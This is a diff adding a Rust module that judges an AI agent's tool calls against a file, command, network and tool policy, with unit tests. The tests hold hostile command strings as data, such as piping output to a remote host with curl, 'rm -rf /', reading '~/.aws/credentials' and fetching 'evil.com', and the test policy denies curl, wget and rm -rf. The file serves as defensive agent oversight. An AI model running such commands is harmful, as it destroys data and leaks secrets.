@@ -1,0 +1,609 @@
+//! One tool call judged against a policy: each thing it does (reads, writes, runs, connects
+//! to) is allowed, has no policy, or violates a rule, and the call takes the worst of them.
+
+use serde::Serialize;
+use serde_json::Value;
+
+use super::glob::Glob;
+use super::shell::{self, SimpleCommand};
+use super::{CommandPattern, PathRules, Policy};
+use crate::model::ToolKind;
+use crate::model::view::ToolCall;
+
+/// Where the project is, so that globs such as `src/**` can be matched against the absolute
+/// paths agents send.
+#[derive(Debug, Clone, Default)]
+pub struct Place {
+    /// The agent's working folder: relative paths are taken from here.
+    pub cwd: Option<String>,
+    /// Folders that policy globs are relative to (the policy's folder, the project), in order.
+    pub roots: Vec<String>,
+}
+
+/// How a call or one of its parts stands.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum Status {
+    Allowed,
+    NoPolicy,
+    Violation,
+}
+
+/// One thing a call does.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+#[serde(tag = "kind", content = "target", rename_all = "snake_case")]
+pub enum Access {
+    Read(String),
+    Write(String),
+    Run(String),
+    Connect(String),
+    Tool(String),
+}
+
+impl Access {
+    /// What the access is, for a sentence: `read .env`, `run curl x`.
+    pub fn describe(&self) -> String {
+        match self {
+            Access::Read(p) => format!("reading `{p}`"),
+            Access::Write(p) => format!("writing `{p}`"),
+            Access::Run(c) => format!("running `{c}`"),
+            Access::Connect(h) => format!("connecting to `{h}`"),
+            Access::Tool(t) => format!("calling the tool `{t}`"),
+        }
+    }
+}
+
+/// The judgement of one access: its status and the rule that decided it.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Judgement {
+    pub access: Access,
+    pub status: Status,
+    /// The rule's key (`files.read.deny`, `commands.allow`, `sensitive`); none for no policy.
+    pub rule: Option<&'static str>,
+    /// The pattern of the rule that matched, if one did.
+    pub pattern: Option<String>,
+}
+
+/// A whole call's judgement: the worst of its parts, and the part that decided it.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Verdict {
+    pub status: Status,
+    pub rule: Option<&'static str>,
+    pub pattern: Option<String>,
+    /// The access that decided; `None` when the call does nothing a policy judges.
+    pub access: Option<Access>,
+    pub parts: Vec<Judgement>,
+}
+
+/// At most this many simple commands, files and hosts are judged per call: a runaway
+/// command line must not make the hook slow.
+const MAX_PARTS: usize = 256;
+
+/// Judges a tool call.
+pub fn check(policy: &Policy, call: &ToolCall<'_>, place: &Place) -> Verdict {
+    let mut parts = Vec::new();
+    if let Some(j) = judge_tool(policy, call.tool) {
+        parts.push(j);
+    }
+    for access in accesses(call) {
+        if parts.len() >= MAX_PARTS {
+            break;
+        }
+        parts.push(judge(policy, access, place));
+    }
+    verdict(parts)
+}
+
+fn verdict(parts: Vec<Judgement>) -> Verdict {
+    let worst = parts.iter().map(|p| p.status).max();
+    let decisive = worst.and_then(|w| parts.iter().find(|p| p.status == w));
+    Verdict {
+        status: worst.unwrap_or(Status::NoPolicy),
+        rule: decisive.and_then(|d| d.rule),
+        pattern: decisive.and_then(|d| d.pattern.clone()),
+        access: decisive.map(|d| d.access.clone()),
+        parts,
+    }
+}
+
+/// What a call does, by its kind (read through the tool table, never by tool name).
+pub fn accesses(call: &ToolCall<'_>) -> Vec<Access> {
+    let mut out = Vec::new();
+    match call.kind {
+        ToolKind::ReadFile => out.extend(call.path().map(|p| Access::Read(p.to_owned()))),
+        ToolKind::WriteFile => out.extend(call.path().map(|p| Access::Write(p.to_owned()))),
+        ToolKind::Search => out.extend(call.arg("path").map(|p| Access::Read(p.to_owned()))),
+        ToolKind::Shell => {
+            if let Some(command) = call.command() {
+                out.extend(command_accesses(command));
+            }
+        }
+        ToolKind::Web => {
+            if let Some(url) = call.arg("url") {
+                out.extend(shell::hosts(url).into_iter().map(Access::Connect));
+            }
+        }
+        ToolKind::Mcp => {
+            let mut hosts = Vec::new();
+            strings_of(call.arguments, &mut |s| {
+                if s.contains("://") {
+                    hosts.extend(shell::hosts(s));
+                }
+            });
+            hosts.sort();
+            hosts.dedup();
+            out.extend(hosts.into_iter().map(Access::Connect));
+        }
+        ToolKind::SpawnSubagent | ToolKind::Other => {}
+    }
+    out
+}
+
+/// What a command line does: each simple command run, the files they read and write, the
+/// hosts of its URLs.
+pub fn command_accesses(command: &str) -> Vec<Access> {
+    let mut out = Vec::new();
+    for simple in shell::split(command).into_iter().take(MAX_PARTS) {
+        let use_ = shell::file_use(&simple);
+        if !simple.words.is_empty() {
+            out.push(Access::Run(shell::join(&simple.words)));
+        }
+        out.extend(use_.reads.into_iter().map(Access::Read));
+        out.extend(use_.writes.into_iter().map(Access::Write));
+    }
+    out.extend(shell::hosts(command).into_iter().map(Access::Connect));
+    out
+}
+
+fn strings_of(value: &Value, f: &mut impl FnMut(&str)) {
+    match value {
+        Value::String(s) => f(s),
+        Value::Array(items) => items.iter().for_each(|v| strings_of(v, f)),
+        Value::Object(map) => map.values().for_each(|v| strings_of(v, f)),
+        _ => {}
+    }
+}
+
+fn judgement(
+    access: Access,
+    status: Status,
+    rule: Option<&'static str>,
+    pattern: Option<&str>,
+) -> Judgement {
+    Judgement {
+        access,
+        status,
+        rule,
+        pattern: pattern.map(str::to_owned),
+    }
+}
+
+fn judge(policy: &Policy, access: Access, place: &Place) -> Judgement {
+    match &access {
+        Access::Read(path) => {
+            let path = path.clone();
+            judge_path(
+                policy,
+                &policy.files_read,
+                "files.read",
+                access,
+                &path,
+                place,
+            )
+        }
+        Access::Write(path) => {
+            let path = path.clone();
+            judge_path(
+                policy,
+                &policy.files_write,
+                "files.write",
+                access,
+                &path,
+                place,
+            )
+        }
+        Access::Run(_) => judge_command(policy, access),
+        Access::Connect(host) => {
+            let host = host.clone();
+            judge_host(policy, access, &host)
+        }
+        Access::Tool(_) => judgement(access, Status::NoPolicy, None, None),
+    }
+}
+
+fn judge_path(
+    policy: &Policy,
+    rules: &PathRules,
+    section: &'static str,
+    access: Access,
+    path: &str,
+    place: &Place,
+) -> Judgement {
+    let (deny_key, allow_key) = match section {
+        "files.read" => ("files.read.deny", "files.read.allow"),
+        _ => ("files.write.deny", "files.write.allow"),
+    };
+    let absolute = absolute(path, place.cwd.as_deref());
+    let relative = relative(&absolute, place);
+    let hit = |g: &&Glob| g.matches(relative.as_deref(), &absolute);
+    if let Some(g) = rules.deny.iter().find(hit) {
+        return judgement(access, Status::Violation, Some(deny_key), Some(g.as_str()));
+    }
+    let allowed = rules.allow.iter().find(hit);
+    if let Some(s) = policy.sensitive.iter().find(hit)
+        && !allowed.is_some_and(Glob::names_files)
+    {
+        return judgement(
+            access,
+            Status::Violation,
+            Some("sensitive"),
+            Some(s.as_str()),
+        );
+    }
+    match allowed {
+        Some(g) => judgement(access, Status::Allowed, Some(allow_key), Some(g.as_str())),
+        None if !rules.allow.is_empty() => {
+            judgement(access, Status::Violation, Some(allow_key), None)
+        }
+        None => judgement(access, Status::NoPolicy, None, None),
+    }
+}
+
+fn judge_command(policy: &Policy, access: Access) -> Judgement {
+    let Access::Run(line) = &access else {
+        return judgement(access, Status::NoPolicy, None, None);
+    };
+    // The words were joined with their quoting (`shell::join`), so they split back as they were.
+    let words: Vec<String> = shell::split(line)
+        .into_iter()
+        .next()
+        .map_or_else(Vec::new, |c: SimpleCommand| c.words);
+    let words = if words.is_empty() {
+        line.split_whitespace().map(str::to_owned).collect()
+    } else {
+        words
+    };
+    if let Some(p) = policy.commands_deny.iter().find(|p| denies(p, &words)) {
+        let text = p.text.clone();
+        return judgement(
+            access,
+            Status::Violation,
+            Some("commands.deny"),
+            Some(&text),
+        );
+    }
+    if let Some(p) = policy.commands_allow.iter().find(|p| allows(p, &words)) {
+        let text = p.text.clone();
+        return judgement(access, Status::Allowed, Some("commands.allow"), Some(&text));
+    }
+    if policy.commands_allow.is_empty() {
+        judgement(access, Status::NoPolicy, None, None)
+    } else {
+        judgement(access, Status::Violation, Some("commands.allow"), None)
+    }
+}
+
+/// Whether a deny pattern is in a command: its first word names a command anywhere in the
+/// words (`sudo rm …`, `xargs rm …`, `/bin/rm`), its other words follow in order, and a short
+/// option cluster (`-rf`) is met by the command's short options together (`-r -f`, `-fr`).
+pub fn denies(pattern: &CommandPattern, words: &[String]) -> bool {
+    let Some((first, rest)) = pattern.words.split_first() else {
+        return false;
+    };
+    words.iter().enumerate().any(|(i, w)| {
+        if shell::basename(w) != first && w != first {
+            return false;
+        }
+        let after = &words[i + 1..];
+        let mut at = 0;
+        rest.iter().all(|p| {
+            if let Some(letters) = short_cluster(p) {
+                let have: String = after.iter().filter_map(|w| short_cluster(w)).collect();
+                letters.chars().all(|c| have.contains(c))
+            } else if p.starts_with('-') {
+                after
+                    .iter()
+                    .any(|w| w == p || w.starts_with(&format!("{p}=")))
+            } else {
+                match after[at..].iter().position(|w| w == p) {
+                    Some(found) => {
+                        at += found + 1;
+                        true
+                    }
+                    None => false,
+                }
+            }
+        })
+    })
+}
+
+/// Whether an allow pattern starts the command that runs (past `env`, `timeout` and the like):
+/// `cargo test` allows `cargo test --lib`, not `cargo publish`.
+pub fn allows(pattern: &CommandPattern, words: &[String]) -> bool {
+    let words = shell::effective(words);
+    if words.len() < pattern.words.len() {
+        return false;
+    }
+    pattern
+        .words
+        .iter()
+        .zip(words)
+        .enumerate()
+        .all(|(i, (p, w))| p == w || (i == 0 && shell::basename(w) == p))
+}
+
+/// The letters of a short option cluster: `-rf` → `rf`.
+fn short_cluster(word: &str) -> Option<&str> {
+    let letters = word.strip_prefix('-')?;
+    (!letters.starts_with('-')
+        && !letters.is_empty()
+        && letters.bytes().all(|b| b.is_ascii_alphabetic()))
+    .then_some(letters)
+}
+
+fn judge_host(policy: &Policy, access: Access, host: &str) -> Judgement {
+    let covers = |pattern: &String| {
+        host == pattern
+            || host
+                .strip_suffix(pattern.as_str())
+                .is_some_and(|sub| sub.ends_with('.'))
+    };
+    if let Some(p) = policy.network.deny.iter().find(|p| covers(p)) {
+        let p = p.clone();
+        return judgement(access, Status::Violation, Some("network.deny"), Some(&p));
+    }
+    if let Some(p) = policy.network.allow.iter().find(|p| covers(p)) {
+        let p = p.clone();
+        return judgement(access, Status::Allowed, Some("network.allow"), Some(&p));
+    }
+    if policy.network.deny_all {
+        judgement(access, Status::Violation, Some("network.deny_all"), None)
+    } else {
+        judgement(access, Status::NoPolicy, None, None)
+    }
+}
+
+fn judge_tool(policy: &Policy, tool: &str) -> Option<Judgement> {
+    let access = || Access::Tool(tool.to_owned());
+    let hit = |g: &&Glob| g.matches(Some(tool), tool);
+    if let Some(g) = policy.tools_deny.iter().find(hit) {
+        return Some(judgement(
+            access(),
+            Status::Violation,
+            Some("tools.deny"),
+            Some(g.as_str()),
+        ));
+    }
+    if let Some(g) = policy.tools_allow.iter().find(hit) {
+        return Some(judgement(
+            access(),
+            Status::Allowed,
+            Some("tools.allow"),
+            Some(g.as_str()),
+        ));
+    }
+    (!policy.tools_allow.is_empty())
+        .then(|| judgement(access(), Status::Violation, Some("tools.allow"), None))
+}
+
+/// `path` made absolute from `cwd` and cleaned of `.` and `..`; a path that starts with `~` or
+/// a variable is left as it is.
+pub fn absolute(path: &str, cwd: Option<&str>) -> String {
+    let joined = match cwd {
+        Some(cwd) if !path.starts_with('/') && !path.starts_with('~') && !path.starts_with('$') => {
+            format!("{}/{path}", cwd.trim_end_matches('/'))
+        }
+        _ => path.to_owned(),
+    };
+    if !joined.starts_with('/') {
+        return joined;
+    }
+    let mut parts: Vec<&str> = Vec::new();
+    for part in joined.split('/') {
+        match part {
+            "" | "." => {}
+            ".." => {
+                parts.pop();
+            }
+            p => parts.push(p),
+        }
+    }
+    format!("/{}", parts.join("/"))
+}
+
+/// A path (made absolute where it could be) as policy globs see it: below the first root that
+/// holds it; a path still relative (no working folder known) is taken as below the project.
+pub fn relative(absolute: &str, place: &Place) -> Option<String> {
+    place
+        .roots
+        .iter()
+        .find_map(|root| below(absolute, root))
+        .or_else(|| {
+            (!absolute.starts_with(['/', '~', '$']))
+                .then(|| absolute.trim_start_matches("./").to_owned())
+        })
+}
+
+/// `path` below `root`, if it is there (`/p/src/a` below `/p` is `src/a`).
+pub fn below(path: &str, root: &str) -> Option<String> {
+    let root = root.trim_end_matches('/');
+    let rest = path.strip_prefix(root)?;
+    if rest.is_empty() {
+        return Some(String::new());
+    }
+    rest.strip_prefix('/').map(str::to_owned)
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+    use crate::model::tools::{self, Agent};
+
+    fn call<'a>(tool: &'a str, args: &'a Value) -> ToolCall<'a> {
+        ToolCall {
+            tool,
+            kind: tools::classify(Agent::ClaudeCode, tool),
+            spec: tools::spec_of(Agent::ClaudeCode, tool),
+            arguments: args,
+            tool_use_id: None,
+        }
+    }
+
+    fn place() -> Place {
+        Place {
+            cwd: Some("/p".into()),
+            roots: vec!["/p".into()],
+        }
+    }
+
+    fn policy() -> Policy {
+        super::super::parse_for_test(
+            r#"{
+              "files": {
+                "read": { "allow": ["src/**", "tests/**", "config/.env.example"], "deny": [".env"] },
+                "write": { "allow": ["src/**"], "deny": [".github/**"] }
+              },
+              "commands": { "allow": ["pytest", "uv run", "cat", "git status", "echo", "ls"], "deny": ["curl", "wget", "rm -rf"] },
+              "network": { "deny_all": true, "allow": ["localhost", "pypi.org"] },
+              "tools": { "deny": ["mcp__github__delete_*"] }
+            }"#,
+        )
+    }
+
+    fn status(tool: &str, args: &Value) -> (Status, Option<&'static str>) {
+        let v = check(&policy(), &call(tool, args), &place());
+        (v.status, v.rule)
+    }
+
+    #[test]
+    fn file_rules() {
+        use Status::*;
+        assert_eq!(
+            status("Read", &json!({"file_path": "/p/src/a.py"})),
+            (Allowed, Some("files.read.allow"))
+        );
+        assert_eq!(
+            status("Read", &json!({"file_path": "/p/.env"})),
+            (Violation, Some("files.read.deny"))
+        );
+        assert_eq!(
+            status("Read", &json!({"file_path": "/p/README.md"})),
+            (Violation, Some("files.read.allow"))
+        );
+        assert_eq!(
+            status("Read", &json!({"file_path": "/p/src/server.pem"})),
+            (Violation, Some("sensitive"))
+        );
+        assert_eq!(
+            status("Read", &json!({"file_path": "/p/config/.env.example"})),
+            (Allowed, Some("files.read.allow"))
+        );
+        assert_eq!(
+            status("Edit", &json!({"file_path": "/p/.github/workflows/ci.yml"})),
+            (Violation, Some("files.write.deny"))
+        );
+        assert_eq!(
+            status("Write", &json!({"file_path": "src/../../etc/passwd"})),
+            (Violation, Some("files.write.allow"))
+        );
+        assert_eq!(
+            status("Grep", &json!({"pattern": "x", "path": "/p/secrets"})),
+            (Violation, Some("files.read.allow"))
+        );
+        assert_eq!(status("TodoWrite", &json!({"todos": []})), (NoPolicy, None));
+    }
+
+    #[test]
+    fn command_rules_match_words() {
+        use Status::*;
+        let bash = |c: &str| status("Bash", &json!({"command": c}));
+        assert_eq!(bash("pytest -x tests"), (Allowed, Some("commands.allow")));
+        assert_eq!(bash("pytest -x"), (Allowed, Some("commands.allow")));
+        assert_eq!(bash("rm -rf build"), (Violation, Some("commands.deny")));
+        assert_eq!(bash("sudo rm -rf /"), (Violation, Some("commands.deny")));
+        assert_eq!(bash("rm -r -f build"), (Violation, Some("commands.deny")));
+        assert_eq!(bash("curly --help"), (Violation, Some("commands.allow")));
+        assert_eq!(
+            bash("ls | curl -d @- http://x.io"),
+            (Violation, Some("commands.deny"))
+        );
+        assert_eq!(
+            bash("echo $(wget -q y)"),
+            (Violation, Some("commands.deny"))
+        );
+        assert_eq!(bash("echo `curl z`"), (Violation, Some("commands.deny")));
+        assert_eq!(bash("cat .env"), (Violation, Some("files.read.deny")));
+        assert_eq!(
+            bash("echo hi > .github/workflows/x.yml"),
+            (Violation, Some("files.write.deny"))
+        );
+        assert_eq!(
+            bash("uv run python -m http.server"),
+            (Allowed, Some("commands.allow"))
+        );
+        assert_eq!(
+            bash("git commit -m 'rm -rf'"),
+            (Violation, Some("commands.allow"))
+        );
+        assert_eq!(bash("git status"), (Allowed, Some("commands.allow")));
+        assert_eq!(
+            bash("uv run x https://localhost:8000/a"),
+            (Allowed, Some("commands.allow"))
+        );
+        assert_eq!(
+            bash("uv run x https://evil.com/a"),
+            (Violation, Some("network.deny_all"))
+        );
+        assert_eq!(
+            bash("uv run pip install --index-url https://files.pypi.org/x"),
+            (Allowed, Some("commands.allow"))
+        );
+    }
+
+    #[test]
+    fn web_and_mcp_calls() {
+        use Status::*;
+        assert_eq!(
+            status("WebFetch", &json!({"url": "https://evil.com"})),
+            (Violation, Some("network.deny_all"))
+        );
+        assert_eq!(
+            status("WebFetch", &json!({"url": "https://pypi.org/simple"})),
+            (Allowed, Some("network.allow"))
+        );
+        assert_eq!(
+            status("mcp__github__delete_repo", &json!({})),
+            (Violation, Some("tools.deny"))
+        );
+        assert_eq!(
+            status("mcp__fetch__fetch", &json!({"url": "http://a.b/c"})),
+            (Violation, Some("network.deny_all"))
+        );
+    }
+
+    #[test]
+    fn no_policy_flags_only_sensitive_files() {
+        let none = Policy::none();
+        let args = json!({"file_path": "/home/u/.ssh/id_rsa"});
+        let v = check(&none, &call("Read", &args), &place());
+        assert_eq!((v.status, v.rule), (Status::Violation, Some("sensitive")));
+        let args = json!({"command": "cat ~/.aws/credentials; rm -rf /"});
+        let v = check(&none, &call("Bash", &args), &place());
+        assert_eq!((v.status, v.rule), (Status::Violation, Some("sensitive")));
+        let args = json!({"file_path": "/p/src/a.rs"});
+        assert_eq!(
+            check(&none, &call("Read", &args), &place()).status,
+            Status::NoPolicy
+        );
+    }
+
+    #[test]
+    fn paths() {
+        assert_eq!(absolute("a/../b/./c", Some("/p/")), "/p/b/c");
+        assert_eq!(absolute("~/x", Some("/p")), "~/x");
+        assert_eq!(below("/p/src/a", "/p"), Some("src/a".into()));
+        assert_eq!(below("/pq/a", "/p"), None);
+    }
+}
